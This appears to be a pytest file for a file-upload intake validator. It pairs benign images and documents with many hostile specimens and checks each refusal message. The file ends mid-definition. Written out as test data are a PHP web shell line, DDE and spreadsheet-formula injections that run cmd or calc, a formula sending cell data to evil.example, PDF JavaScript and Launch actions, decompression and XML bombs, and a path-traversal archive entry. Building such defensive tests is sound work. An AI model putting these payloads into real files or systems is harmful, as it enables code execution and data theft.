"""What may come in, and what each hostile file is told."""

import hashlib
import io
import struct
import zlib

import pytest
from PIL import ImageFile

from releases.files import intake, pdf, raster, table
from releases.files.formats import Format, Kind
from releases.files.refusal import NotAccepted
from tests.files import specimens as made
from tests.files.specimens import PAGE

GOOD = {
    "a photograph": (made.jpeg(), Format.JPEG),
    "a photograph with notes": (made.jpeg(exif=made.notes(6)), Format.JPEG),
    "a progressive photograph": (made.jpeg(progressive=True), Format.JPEG),
    "a photograph for print": (made.saved("JPEG", made.drawn("CMYK")), Format.JPEG),
    "a grey photograph": (made.saved("JPEG", made.drawn("L")), Format.JPEG),
    "a photograph with a camera's film behind it": (made.jpeg() + b"\0\0\0\x18ftypmp42" + bytes(900), Format.JPEG),
    "a drawing": (made.saved("PNG"), Format.PNG),
    "a drawing that lets through": (made.saved("PNG", made.drawn("RGBA")), Format.PNG),
    "a drawing of few colours": (made.saved("PNG", made.drawn("P")), Format.PNG),
    "a drawing of sixteen bits": (made.grey_sixteen(), Format.PNG),
    "a WebP": (made.saved("WEBP"), Format.WEBP),
    "a WebP with profile and notes": (made.saved("WEBP", exif=made.notes(), icc_profile=made.srgb()), Format.WEBP),
    "a GIF": (made.saved("GIF"), Format.GIF),
    "a moving GIF": (made.moving_gif(), Format.GIF),
    "a PDF": (made.pdf(), Format.PDF),
    "a PDF with an outline": (made.pdf(b"/Outlines << /First 4 0 R /Last 4 0 R >>"), Format.PDF),
    "a PDF with packed objects": (made.packed_pdf(b"<< /Type /Font >>"), Format.PDF),
    "a PDF with objects packed as Adobe does": (
        made.packed_pdf(
            b"<<>>", b"/DecodeParms[null]/Extends 7 0 R/Filter[/FlateDecode]/First 4/N 1/Type/ObjStm"
        ), Format.PDF,
    ),
    "a PDF that opens at a page": (made.pdf(b"/OpenAction [3 0 R /Fit]"), Format.PDF),
    "a Word file": (made.office(), Format.DOCX),
    "a Word file with links": (made.linked("hyperlink", "https://fas.org/"), Format.DOCX),
    "a Word file with a chart's workbook": (made.nested(1), Format.DOCX),
    "a Word file with fields": (
        made.word(
            made.runs(' HYPERLINK "https://fas.org/import" ') + made.runs("PAGE") + '<w:fldSimple w:instr="DATE"/>'
            + made.runs(' TOC \\o "1-3" ').replace("shown", "DDE and IMPORT: a table")
        ),
        Format.DOCX,
    ),
    "a Word file with drawings of other programs": (
        made.office(
            a="image/svg+xml", b="application/vnd.openxmlformats-officedocument.vmlDrawing",
            more={"x0.bin": '<!DOCTYPE svg><svg/>', "x1.bin": "<xml><br></xml>"},
        ),
        Format.DOCX,
    ),
    "an Excel file that computes": (
        made.excel("IF('Mr. \"X\"'!A1=\"a|b\",SUM(B1:B9),\"IMAGE(1)\")&amp;my.image(2)"), Format.XLSX
    ),
    "an Excel file": (made.office(made.EXCEL), Format.XLSX),
    "a table": (made.CSV, Format.CSV),
    "a table with a mark in front": (b"\xef\xbb\xbf" + made.CSV, Format.CSV),
    "a table from an old Macintosh": (b"a,b\rc,d\r", Format.CSV),
    "a table from Windows": ("Name;Städte\r\nMüller;3\r\n".encode("cp1252"), Format.CSV),
    "a table with telephones": (b"Name,Phone\nRuth,+1 (202) 454-4680\nTom,+49 30 1234 ext. 12\n", Format.CSV),
    "a table with signs": (
        'What;Change\na;-4\nb;+3,5 %\nc;-1.2e-5\nd;-$1,200\ne;-5 °C\nf;-\ng;a-b @ 2=2\n"h\n-1";--\ni;"-1,200 / -7"\n'.encode(),
        Format.CSV,
    ),
}  # fmt: skip

INCOMPLETE = "The picture is not complete: the file ends too early. Copy or export it again, then upload it."
HIDDEN = (
    "The file is a picture with something else hidden in it. "
    "Open it in a picture program, export it again, then upload that."
)
SVG = "SVG drawings can contain programs and are not accepted. Export it as PNG, then upload that."
WEB = "Web pages and XML are not accepted. Print the page to a PDF, or save a table as CSV, then upload that."
UNKNOWN = (
    "The file is none of those that are accepted: pictures as JPEG, PNG, WebP or GIF; documents as PDF, "
    "Word (.docx), Excel (.xlsx) or CSV in UTF-8. Save it as one of these, then upload that."
)
NO_TABLE = (
    "The file is text, but no table with the same number of columns in every row. "
    "Save a table as CSV, and words as PDF or Word (.docx)."
)
MACROS = (
    "The file contains macros or embedded objects. "
    "Save it without them, as .docx, .xlsx or PDF, then upload that."
)
FETCHES = (
    "The file fetches a template, picture or workbook from elsewhere when it is opened. "
    "Detach the template (Word: Developer, Document Template) or break the links "
    "(Excel: Data, Edit Links or Queries & Connections), save it, then upload that."
)
FIELDS = (
    "The document has fields that fetch or run something when it is opened. "
    "In Word, press Ctrl+A and Ctrl+Shift+F9, which leaves what they show, save it, then upload that."
)
FORMULA = (
    "The workbook has a formula that fetches or runs something when it is opened. "
    "Replace it by its value (copy, paste as values), save it, then upload that."
)
MUCH_TEXT = (
    "The file holds more than 60 MB of text and tables, or more than 20 MB in one of them. "
    "Save a large table as CSV and a long text as PDF, then upload that."
)
NO_OFFICE = (
    "The file is damaged, or was not written by Word or Excel. "
    "Open it there, save it again, then upload that."
)
OTHER_OFFICE = (
    "Of office files only Word documents (.docx) and Excel workbooks (.xlsx) are accepted. "
    "Save it as one of these or as PDF, then upload that."
)
ZIP = (
    "ZIP archives are not accepted, whatever their name. "
    "Upload each file by itself: pictures, PDF, Word (.docx), Excel (.xlsx) or CSV."
)
UNPACKS = "The file unpacks to more than 200 MB. Make it smaller, then upload it."
PROGRAM_IN_PDF = "The PDF contains a program (JavaScript). Print it to a new PDF, then upload that."
PLAYS = "The PDF plays media by itself. Print it to a new PDF, then upload that."
FILES_IN_PDF = "The PDF has other files in it. Take them out and upload each by itself."
ODD_PDF = "The PDF is packed in a way that cannot be looked into. Print it to a new PDF, then upload that."
BEHIND_PDF = "Something stands behind the end of the PDF. Print it to a new PDF, then upload that."
LATE_PDF = "The PDF does not begin at the beginning of the file. Print it to a new PDF, then upload that."
FILM = "Film and sound are not accepted. Publish them where they can be played, and give a link."
ARCHIVE = "Archives are not accepted. Upload each file by itself."
PROGRAM = "Programs are not accepted."


def damaged(why):
    return f"The picture is damaged: {why}. Open it in a picture program, export it again, then upload that."


def formula(row):
    return (
        f"A cell in row {row} begins like a formula, which spreadsheet programs would compute. "
        "Save the table with values only, and with a word before = + - or @, then upload that."
    )


def too_many_pixels(megapixels, size, most=50, otherwise=""):
    return (
        f"The picture has {megapixels} megapixels ({size}); {most} are the most. "
        f"Make it smaller{otherwise}, then upload that."
    )


def too_much_moving(frames, size):
    return (
        f"The animation has {frames} frames of {size} pixels, too much for a reader's device. "
        "Make it shorter or smaller, or upload one frame as a picture."
    )


HOSTILE = {
    # Drawings and pages under any name
    "SVG": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', SVG),
    "SVG behind XML": (b'<?xml version="1.0"?>\n<!-- a --><!DOCTYPE svg PUBLIC "x">\n<svg/>', SVG),
    "SVG with a prefix": (b"\xef\xbb\xbf <s:svg xmlns:s='http://www.w3.org/2000/svg'/>", SVG),
    "page": (b"<!DOCTYPE html>" + PAGE, WEB),
    "SVG behind its own words": (b'<!DOCTYPE svg [\n<!ENTITY a "b">\n]>\n<!-- <p> -->\n<svg/>', SVG),
    "page behind many comments": (b"<!---->" * 500 + b"<p>", WEB),
    "page behind comments and XML": (b"<?xml " * 300 + b"<!-- -->" * 200 + b"<p>", WEB),
    "page behind beginnings of comments": (b"<!--" * 1_000 + b"<!doctype [" + b" " * 90, WEB),
    "page behind spaces": (b" \n\t<p onclick=x>", WEB),
    "page inside words": (b"a,b\nc," + PAGE + b"\n", (
        "The file contains parts of a web page. Web pages are not accepted; "
        "for a table, save it as CSV without markup."
    )),
    "page in UTF-16": ("<html>".encode("utf-16"), (
        "The text is in UTF-16. In Excel, save it as “CSV UTF-8”, then upload that."
    )),
    # Pictures that are something else as well
    "GIF with a page behind": (made.saved("GIF") + PAGE, HIDDEN),
    "GIF with a page in a comment": (made.gif_with_comment(PAGE), HIDDEN),
    "GIF that is a program": (made.gif_with_comment(b"*/=1;alert(1)//"), HIDDEN),
    "GIF with an archive behind": (made.saved("GIF") + made.zipped({"a": "b"}), HIDDEN),
    "JPEG with a page behind": (made.jpeg() + PAGE, HIDDEN),
    "JPEG with a page in a comment": (made.with_segment(0xFE, PAGE), HIDDEN),
    "JPEG with a program in its notes": (made.with_segment(0xE1, b"Exif\0\0<?php system($_GET[0]);"), HIDDEN),
    "JPEG with an archive behind": (made.jpeg() + made.zipped({"a": "b"}), HIDDEN),
    "JPEG with an archive of another kind behind": (made.jpeg() + b"7z\xbc\xaf\x27\x1c" + bytes(90), HIDDEN),
    "JPEG with an archive of a third kind behind": (made.jpeg() + b"ab" + b"Rar!\x1a\x07\0" + bytes(90), HIDDEN),
    "JPEG with a program behind": (
        made.jpeg() + b"MZ\x90\0" + bytes(74) + b"This program cannot be run in DOS mode.", HIDDEN
    ),
    "JPEG with a PDF behind": (made.jpeg() + made.pdf(), HIDDEN),
    "PNG with a page behind": (made.saved("PNG") + PAGE, HIDDEN),
    "PNG with a page in its notes": (made.with_png_chunk(b"tEXt", b"Title\0" + PAGE), HIDDEN),
    "WebP with a page behind": (made.saved("WEBP") + PAGE, HIDDEN),
    "WebP with a page in its notes": (
        made.riff((b"VP8L", made.saved("WEBP", lossless=True)[20:]), (b"XMP ", PAGE)), HIDDEN
    ),
    # Pictures that are not whole
    "JPEG cut in half": (made.jpeg()[:500], INCOMPLETE),
    "JPEG without its end": (made.jpeg()[:-2], INCOMPLETE),
    "JPEG of a beginning alone": (b"\xff\xd8\xff", INCOMPLETE),
    "JPEG without pixels": (made.jpeg_frame(64, 48), damaged("it cannot be drawn")),
    "JPEG without a picture": (b"\xff\xd8\xff\xe0\0\2\xff\xd9", damaged("it holds no picture")),
    "JPEG of no height": (made.jpeg_frame(64, 0), damaged("it is a rare kind of JPEG that browsers do not show")),
    "JPEG that hides its size": (
        made.with_segment(0xC0, made.jpeg_frame(9, 9)[6:21]),
        damaged("it is a rare kind of JPEG that browsers do not show"),
    ),
    "JPEG of rubbish": (b"\xff\xd8\xff\xe0\0\4ab" + b"rubbish", damaged("its parts do not follow each other")),
    "PNG cut in half": (made.saved("PNG")[:80], INCOMPLETE),
    "PNG with a wrong checksum": (made.saved("PNG")[:29] + b"\0" + made.saved("PNG")[30:], (
        damaged("a checksum is wrong")
    )),
    "PNG without its pixels": (made.png_of(64, 48), INCOMPLETE),
    "PNG out of order": (b"\x89PNG\r\n\x1a\n" + made.png_chunk(b"IDAT", b""), (
        damaged("its parts are in the wrong order")
    )),
    "GIF cut in half": (made.saved("GIF")[:60], INCOMPLETE),
    "GIF whose frame is larger": (made.gif_of(2, 2, made.gif_frame(3, 3)), (
        damaged("one of its frames is larger than the picture")
    )),
    "GIF without a frame": (made.gif_of(2, 2), damaged("it holds no picture")),
    "WebP cut in half": (made.saved("WEBP")[:60], INCOMPLETE),
    "WebP of two sizes": (made.riff((b"VP8X", bytes(10))), damaged("it holds no picture, or one of another size")),
    # Bombs
    "PNG of 100 megapixels": (made.png_of(10_000, 10_000), too_many_pixels("100.0", "10000 × 10000")),
    "PNG of a little too much": (made.png_of(10_001, 5_000), too_many_pixels("50.1", "10001 × 5000")),
    "PNG of billions": (made.png_of(2**31 - 1, 2**31 - 1), too_many_pixels(
        "4,611,686,014,132.5", "2147483647 × 2147483647"
    )),
    "JPEG of 4,295 megapixels": (made.jpeg_frame(65_535, 65_535), too_many_pixels(
        "4,294.9", "65535 × 65535"
    )),
    "GIF of 4,295 megapixels": (made.gif_of(65_535, 65_535, made.gif_frame(1, 1)), too_many_pixels(
        "4,294.9", "65535 × 65535"
    )),
    "WebP of 268 megapixels": (made.webp_canvas(16_383, 16_383), too_many_pixels(
        "268.5", "16383 × 16383", most=25
    )),
    "WebP of 36 megapixels": (made.webp_canvas(6_000, 6_000), too_many_pixels(
        "36.0", "6000 × 6000", most=25, otherwise=", or save it as JPEG"
    )),
    "picture like a thread": (made.png_of(1, 40_000), (
        "The picture is 1 × 40000 pixels, more than 20 times as long as it is wide. "
        "Cut it to what readers should see."
    )),
    "JPEG that fills the memory": (made.jpeg_frame(7_000, 7_000, 0xC2, b"\x11\x11\x11\x11"), (
        "The picture is a large progressive JPEG that takes too much memory to open. "
        "Save it without “progressive”, then upload that."
    )),
    "JPEG whose pixels and coefficients fill the memory together": (
        made.jpeg_frame(4_700, 7_900, 0xC2, b"\x11\x11\x11\x11"), (
            "The picture is a large progressive JPEG that takes too much memory to open. "
            "Save it without “progressive”, then upload that."
        ),
    ),
    "JPEG in a thousand passes": (
        made.jpeg()[:-2] + 1_000 * (b"\xff\xda\0\x08\1\1\0\0\x3f\0\0") + b"\xff\xd9",
        damaged("it is drawn in 1001 passes"),
    ),
    "GIF of many notes": (made.gif_of(1, 1, b"\x21\xfe\0" * 400_001), damaged("it has too many parts")),
    "JPEG of many notes": (b"\xff\xd8" + b"\xff\xfe\0\2" * 20_001, damaged("it has too many parts")),
    "GIF of many frames": (made.gif_of(1, 1, *[made.gif_frame(1, 1)] * 1_001), too_much_moving(1_001, "1 × 1")),
    "GIF of large frames": (made.gif_of(7_000, 7_000, *[made.gif_frame(1, 1)] * 11), (
        too_much_moving(11, "7000 × 7000")
    )),
    "moving PNG of large frames": (
        made.png_of(7_000, 7_000, *[made.png_chunk(b"fcTL", struct.pack(">5I6x", 0, 7_000, 7_000, 0, 0))] * 11),
        too_much_moving(11, "7000 × 7000"),
    ),
    "PNG with notes that unpack to much": (
        made.with_png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(3_000_000))), damaged("it cannot be drawn")
    ),
    # Word and Excel
    "macros": (made.office(more={"word/vbaProject.bin": made.OLD_OFFICE}), MACROS),
    "macros under another name": (made.office(more={"word/media/image1.png": made.OLD_OFFICE}), MACROS),
    "macros by their type": (made.office(x="application/vnd.ms-office.vbaProject"), MACROS),
    "macros by their relation": (made.linked("vbaProject", "theme.bin", "Internal"), MACROS),
    "Word with macros, renamed": (made.office(made.MACRO_WORD), MACROS),
    "Excel 4 macros": (made.office(made.EXCEL, x="application/vnd.ms-excel.macrosheet+xml"), MACROS),
    "ActiveX": (made.office(x="application/vnd.ms-office.activeX+xml"), MACROS),
    "old object": (made.office(more={"word/embeddings/oleObject1.bin": made.OLD_OFFICE}), MACROS),
    "macros in a chart's workbook": (
        made.office(more={"a.xlsx": made.office(made.EXCEL, more={"b.bin": made.OLD_OFFICE})}), MACROS
    ),
    "program in Word": (made.office(more={"word/a.bin": b"MZ\x90\0" + bytes(90)}), (
        "The file carries a program. Take it out, save the file again, then upload that."
    )),
    "template from elsewhere": (made.linked("attachedTemplate", "https://evil.example/t.dotm"), FETCHES),
    "picture from elsewhere": (made.linked("image", "https://evil.example/i.png"), FETCHES),
    "page in Word": (made.linked("aFChunk", "page.html", "Internal"), FETCHES),
    "workbook from elsewhere": (made.linked("externalLinkPath", "//evil/a.xlsx", main=made.EXCEL), FETCHES),
    "connection of a workbook": (made.linked("connections", "connections.xml", "Internal", made.EXCEL), FETCHES),
    "linked values of another program": (made.linked("externalLink", "e.xml", "Internal", made.EXCEL), FETCHES),
    "frame from elsewhere": (made.linked("frame", "https://evil.example/"), FETCHES),
    "object from elsewhere": (made.linked("oleObject", "https://evil.example/a.xlsx"), MACROS),
    "field that runs": (made.word(made.runs(r" DDEAUTO c:\windows\cmd.exe ")), FIELDS),
    "field that runs, in pieces": (made.word(made.runs(" d", "dEa", "", "uto", " cmd ")), FIELDS),
    "field that runs, in a simple one": (made.word('<w:fldSimple w:instr=" DDE cmd "/>'), FIELDS),
    "field that runs, behind another name": (
        made.word('<w:fldSimple x:instr="PAGE" w:instr="DDE cmd"/>'), FIELDS
    ),
    "field that runs, inside another": (made.word(made.runs(f"IF 1 = {made.runs('&#68;DE cmd')}")), FIELDS),
    "field that runs, in crossed out words": (
        made.word(made.runs("DDE cmd").replace("instrText", "delInstrText")), FIELDS
    ),
    "field that runs, made of fields": (made.word(made.runs(made.runs("QUOTE 68 68 69"), "cmd")), FIELDS),
    "field that fetches a picture": (made.word(made.runs('INCLUDEPICTURE "//evil/a" \\d')), FIELDS),
    "field that fetches words": (made.word(made.runs('INCLUDETEXT "//evil/a.docx"')), FIELDS),
    "field that fetches, by its old name": (made.word(made.runs('Import "//evil/a.png"')), FIELDS),
    "field that fetches part of a workbook": (made.word(made.runs('LINK Excel.Sheet.12 "//evil/a"')), FIELDS),
    "field in another alphabet": (
        made.office(more={"main.xml": f'<?xml version="1.0" encoding="UTF-16"?><d>{made.runs("DDE")}</d>'.encode("utf-16")}),
        FIELDS,
    ),
    "field behind white paper": (
        made.office(more={"a.xml": " \n" * 1_000_000 + f"<a>{made.runs('DDE')}</a>"}), FIELDS
    ),
    "field that comes late": (made.hesitating("a.xml", f"<a>{made.runs('DDE')}</a>".encode()), FIELDS),
    "macros that come late": (made.hesitating("a.bin", made.OLD_OFFICE), MACROS),
    "formula that runs": (made.excel("cmd|'/c calc.exe'!A0"), FORMULA),
    "formula that runs, between names": (made.excel("'a\"'!A1+cmd|'/c calc'!A0+'b\"'!A1"), FORMULA),
    "formula that fetches": (made.excel('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)'), FORMULA),
    "formula that fetches a picture": (made.excel('_xlfn.IMAGE ("https://evil.example/")'), FORMULA),
    "name that fetches": (
        made.office(made.EXCEL, more={"w.xml": "<a><definedName>RTD(1)</definedName></a>"}), FORMULA
    ),
    "words of its own for XML": (made.office(more={"a.xml": "<!DOCTYPE a><a/>"}), NO_OFFICE),
    "XML that is cut off": (made.office(more={"a.xml": "<a><b>"}), NO_OFFICE),
    "XML in an alphabet that few read": (
        made.office(more={"a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}), NO_OFFICE
    ),
    "elements in elements": (made.office(more={"a.xml": "<a>" * 1_001 + "</a>" * 1_001}), NO_OFFICE),
    "tag without end": (made.office(more={"a.xml": b"<a b='" + b" " * 6_000_000}), NO_OFFICE),
    "formula without end": (made.excel("1+" * 5_001), NO_OFFICE),
    "field without end": (made.word(made.runs("1" * 5_000_001)), NO_OFFICE),
    "part that unpacks to much": (made.office(more={"a.xml": b"<a>" + b" " * 20_000_000 + b"</a>"}), MUCH_TEXT),
    "parts that unpack to much": (
        made.office(more={f"{n}.xml": b"<a>" + b" " * 15_000_000 + b"</a>" for n in range(4)}), MUCH_TEXT
    ),
    "template": (made.office(made.WORD.replace("document.main", "template.main")), OTHER_OFFICE),
    "slides": (made.office(made.SLIDES), OTHER_OFFICE),
    "old Word": (made.OLD_OFFICE, (
        "This is a file of old Word, Excel or PowerPoint, or one with a password. "
        "Save it as .docx or .xlsx without password, or as PDF, then upload that."
    )),
    "entities in XML": (made.office(more={"_rels/.rels": (
        '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&b;&b;</r>'
    )}), NO_OFFICE),
    "broken XML": (made.office(more={"[Content_Types].xml": "<Types"}), NO_OFFICE),
    # Archives
    "ZIP": (made.zipped({"a.txt": "words"}), ZIP),
    "Java archive": (made.zipped({"META-INF/MANIFEST.MF": "Main-Class: A"}), ZIP),
    "bomb that says so": (made.claiming(4_000_000_000), UNPACKS),
    "bomb that lies": (made.claiming(5), UNPACKS),
    "bomb whose entries lie on each other": (made.overlapping(), NO_OFFICE),
    "archives in archives": (made.nested(2), (
        "Files lie in files that lie in files. Take them out, then upload each by itself."
    )),
    "entry with a password": (made.encrypted_entry(), NO_OFFICE),
    "entry that leaves its folder": (made.office(more={"../../etc/cron.d/x": "x"}), NO_OFFICE),
    "archive with a page behind": (made.office() + PAGE, NO_OFFICE),
    "archive cut in half": (made.office()[:200], NO_OFFICE),
    "empty archive": (b"PK\5\6" + bytes(18), ARCHIVE),
    # PDF
    "PDF with a password": (made.pdf(trailer=b"/Encrypt 9 0 R"), (
        "The PDF is protected. Save it without password and restrictions, then upload that."
    )),
    "PDF with a program": (made.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), PROGRAM_IN_PDF),
    "PDF with a program in other letters": (made.pdf(b"/OpenAction << /S /J#61vaScr#69pt >>"), PROGRAM_IN_PDF),
    "PDF with a packed program": (made.packed_pdf(b"<< /S /JavaScript >>"), PROGRAM_IN_PDF),
    "PDF with a program packed without saying so": (
        made.packed_pdf(b"<< /S /JavaScript >>", b"/N 1 /First 4 /Filter /FlateDecode"), PROGRAM_IN_PDF
    ),
    "PDF with a program that is shifted": (
        made.packed_pdf(b"<<>>", b"/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>"), ODD_PDF
    ),
    "PDF with objects packed otherwise": (
        made.pdf(streams=[(b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", b"\x80\x0b")]), ODD_PDF
    ),
    "PDF with objects packed twice": (
        made.pdf(streams=[(
            b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]",
            zlib.compress(zlib.compress(b"9 0 << /S /JavaScript >>")),
        )]), ODD_PDF
    ),
    "PDF with objects packed twice, in another order": (
        made.packed_pdf(b"<<>>", b"/Filter /FlateDecode /Type /ObjStm /N 1 /First 4 /Filter 9 0 R"), ODD_PDF
    ),
    "PDF with a program that is shifted elsewhere": (
        made.packed_pdf(b"<<>>", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms 9 0 R"), ODD_PDF
    ),
    "PDF with a harmless stream in front of a program": (
        made.packed_pdf(
            b"<< /S /JavaScript >>",
            b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /X (stream\n" + zlib.compress(b"9 0 <<>>") + b")",
        ), ODD_PDF
    ),
    "PDF that starts a program": (made.pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), (
        "The PDF starts other programs. Print it to a new PDF, then upload that."
    )),
    "PDF with a file in it": (made.pdf(streams=[(b"/Type /EmbeddedFile", b"MZ")]), FILES_IN_PDF),
    "PDF with files in it": (made.pdf(b"/Names << /EmbeddedFiles 9 0 R >>"), FILES_IN_PDF),
    "PDF with a file in a note": (
        made.pdf(b"/Annots [<< /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 9 0 R >> >> >>]"), FILES_IN_PDF
    ),
    "PDF that plays": (made.pdf(b"/Annots [<< /Subtype /RichMedia >>]"), PLAYS),
    "PDF that plays with a program": (made.pdf(b"/AA << /S /Rendition /JS (x) >>"), PLAYS),
    "PDF that is a form": (made.pdf(b"/AcroForm << /XFA [ (a) 9 0 R ] >>"), (
        "The PDF is a form that only one program can show. Print it to a new PDF, then upload that."
    )),
    "PDF that unpacks to much": (
        made.packed_pdf(bytes(pdf.MOST_UNPACKED + 1)), "The PDF unpacks to far more than it seems. Print it to a new PDF."
    ),
    "PDF that begins late": (b"words\n" + made.pdf(), LATE_PDF),
    "PDF behind a page": (PAGE + made.pdf(), WEB),
    "PDF with a page behind": (made.pdf(end=PAGE), BEHIND_PDF),
    "PDF with an archive behind": (made.pdf(end=made.zipped({"a": "b"})), BEHIND_PDF),
    "PDF with an archive inside": (
        made.pdf(streams=[(b"", made.zipped({"a": "b"})[:-2] + b"\x20\0")]), BEHIND_PDF
    ),
    "PDF cut in half": (made.pdf()[:300], (
        "The PDF is not complete: its end is missing. Export it again, then upload that."
    )),
    # Tables
    "table with a zero": (b"a,b\nc,\0\n", UNKNOWN),
    "table that computes": (b"a,b\n1,=HYPERLINK(\"https://evil.example\")\n", formula(2)),
    "table that starts a program": (b"a,b\n1,\"@SUM(1)*cmd|' /C calc'!A0\"\n", formula(2)),
    "table that computes at its beginning": (b"\xef\xbb\xbf=1+1,b\nc,d\n", formula(1)),
    "table that computes behind a number": (b"a,b\n1,-2+3+cmd|' /C calc'!A0\n", formula(2)),
    "table that computes a link": (b'a,b\n1,"+1+HYPERLINK(""http://e"")"\n', formula(2)),
    "table that computes behind a sum": (b"a,b\n1,-1 cmd|' /C calc'!A0\n", formula(2)),
    "table that computes far behind a sum": (b"a,b\n1,-1" + b" " * 90 + b"+cmd|' /C calc'!A0\n", formula(2)),
    "table that asks a name": (b"a,b\n1,@name\n", formula(2)),
    "table that computes behind a space": ("a,b\n1,\u00a0=A1\n".encode(), formula(2)),
    "table that computes in wide letters": ("a,b\n1,＝A1\n".encode(), formula(2)),
    "table that computes in a long number": (b"a,b\n1,-" + b"1" * 90 + b"\n", formula(2)),
    "table that computes behind a semicolon": (b"a,b\nx,1;=HYPERLINK(A1)\n", formula(2)),
    "table that computes behind a tab": (b"a,b\nx,1\t=A1\n", formula(2)),
    "table that computes behind a stroke": (b"a,b\nx,1|@A1\n", formula(2)),
    "table that computes behind a comma": (b'a;b\nx;"1,=A1"\n', formula(2)),
    "table that computes behind a line": (b'a,b\nx,"1\n=A1"\n', formula(2)),
    "table that computes in its quotes": (b'a,b\nx,1;"-1"\n', formula(2)),
    "words": (b"Dear colleagues,\nthis is no table at all.\n", NO_TABLE),
    "table with rows of many lengths": (b"a,b\nc,d,e\n", NO_TABLE),
    "table of one row": (b"a,b\n", NO_TABLE),
    "table with an open quotation": (b'a,b\n"c,d\n', NO_TABLE),
    "table with one endless row": (b'a,b\n' + b'"\n",' * 300_000, NO_TABLE),
    "table in one endless line": (b"," * 2_100_000, NO_TABLE),
    "only spaces": (b"  \n\n", NO_TABLE),
    # Other kinds
    "nothing": (b"", "The file is empty. Choose it again, or export it again."),
    "HEIC": (b"\0\0\0\x18ftypheic" + bytes(90), (
        "HEIC pictures are not accepted. Save the picture as JPEG, then upload that."
    )),
    "TIFF": (b"II*\0" + bytes(90), (
        "TIFF and camera raw pictures are not accepted. Save the picture as JPEG, then upload that."
    )),
    "film": (b"\0\0\0\x18ftypmp42" + bytes(90), FILM),
    "sound": (b"ID3\4" + bytes(90), FILM),
    "gzip": (b"\x1f\x8b\x08" + bytes(90), ARCHIVE),
    "program for Windows": (b"MZ\x90\0" + bytes(90), PROGRAM),
    "program for Linux": (b"\x7fELF" + bytes(90), PROGRAM),
    "script": (b"#!/bin/sh\necho a,b\n", PROGRAM),
    "RTF": (b"{\\rtf1\\ansi{\\object}}", "RTF is not accepted. Save it as .docx or PDF, then upload that."),
    "PostScript": (b"%!PS-Adobe-3.0\n", "PostScript is not accepted. Save it as PDF, then upload that."),
    "noise": (bytes(range(128, 256)) * 9, UNKNOWN),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_what_is_accepted_comes_in_as_what_it_is(name):
    content, format_ = GOOD[name]

    with intake.accept(io.BytesIO(content), "report.exe") as accepted:
        kept = accepted.body.read()

    assert kept == content
    assert (accepted.format, accepted.size) == (format_, len(content))
    assert accepted.safe_name == f"report.{format_.extension}"
    assert (accepted.width is None) == (accepted.kind is Kind.DOCUMENT)


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_hostile_is_told_what_to_do(name):
    content, sentence = HOSTILE[name]

    # A name that promises a picture changes nothing.
    with pytest.raises(NotAccepted) as refusal:
        intake.accept(io.BytesIO(content), "photo.jpg")

    assert str(refusal.value) == sentence


@pytest.mark.parametrize("name", ["JPEG without pixels", "PNG without its pixels"])
def test_half_a_picture_is_refused_whatever_another_library_has_set(name, monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    content, sentence = HOSTILE[name]

    with pytest.raises(NotAccepted) as refusal:
        intake.accept(io.BytesIO(content), "photo.jpg")

    assert str(refusal.value) == sentence


def test_everything_about_a_file_follows_from_its_content():
    content = made.jpeg(exif=made.notes(orientation=6))

    with intake.accept(io.BytesIO(content), "C:\\fakepath\\My photo.png") as accepted:
        pass

    assert (accepted.kind, accepted.mime, accepted.extension) == (Kind.PICTURE, "image/jpeg", "jpg")
    assert (accepted.width, accepted.height, accepted.is_animated) == (48, 64, False)
    assert accepted.safe_name == "My-photo.jpg"
    assert accepted.digest == hashlib.sha256(content).hexdigest()


def test_a_moving_picture_is_known_as_one():
    with intake.accept(io.BytesIO(made.moving_gif()), "a.gif") as accepted:
        assert accepted.is_animated


class Endless:
    """A stream that never ends, and counts what was taken from it."""

    def __init__(self, beginning):
        self.beginning, self.taken = beginning, 0

    def read(self, size):
        beginning, self.beginning = self.beginning[:size], b""
        self.taken += size
        return beginning or bytes(size)


@pytest.mark.parametrize(
    ("beginning", "megabytes", "word"),
    [(made.jpeg(), 25, "picture"), (made.pdf(), 50, "file"), (b"a,b\n", 50, "file")],
)
def test_a_stream_that_is_too_long_is_left_at_the_limit(beginning, megabytes, word):
    stream = Endless(beginning)

    with pytest.raises(NotAccepted) as refusal:
        intake.accept(stream, "a")

    assert str(refusal.value) == (
        f"The {word} is larger than {megabytes} MB. Make it smaller, then upload that; "
        "for film and data that have to be larger, give a link."
    )
    assert stream.taken <= (megabytes + 1) * intake.MEGABYTE


def test_a_picture_that_comes_byte_by_byte_has_its_own_limit(monkeypatch):
    monkeypatch.setitem(intake.MOST_BYTES, Kind.PICTURE, 100)

    class Slow(io.BytesIO):
        def read(self, size=-1):
            return super().read(min(size, 1))

    with pytest.raises(NotAccepted, match="The picture is larger than 0 MB"):
        intake.accept(Slow(made.jpeg()), "a.jpg")


def test_a_long_table_is_read_to_its_end():
    rows = b"a,b\n" * 20_000

    with pytest.raises(NotAccepted) as refusal:
        intake.accept(io.BytesIO(rows + b"1,=1+1\n"), "a.csv")

    assert str(refusal.value) == formula(20_001)
    assert table.LOOKED_AT < 20_000


def test_a_table_longer_than_spreadsheets_are_is_sent_back(monkeypatch):
    monkeypatch.setattr(table, "MOST_LINES", 3)

    with pytest.raises(NotAccepted) as refusal:
        intake.accept(io.BytesIO(b"a,b\n" * 4), "a.csv")

    assert str(refusal.value) == (
        "The table has more than 3 rows, more than spreadsheet programs open. "
        "Upload it in parts, or give a link to the data."
    )


def test_the_limits_are_those_we_promise():
